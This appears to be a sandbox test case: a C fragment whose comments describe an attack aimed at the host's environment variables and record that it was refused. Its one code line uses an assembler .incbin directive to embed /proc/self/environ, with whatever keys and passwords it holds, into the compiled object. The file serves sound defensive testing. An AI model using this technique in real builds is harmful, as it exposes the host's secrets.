// attack: the environment of the host, with its keys and passwords, in the object
// stopped: refused can't open
// layers: root environment
// goal: secret
__asm__(".section .rodata\n.incbin \"/proc/self/environ\"\n.text");
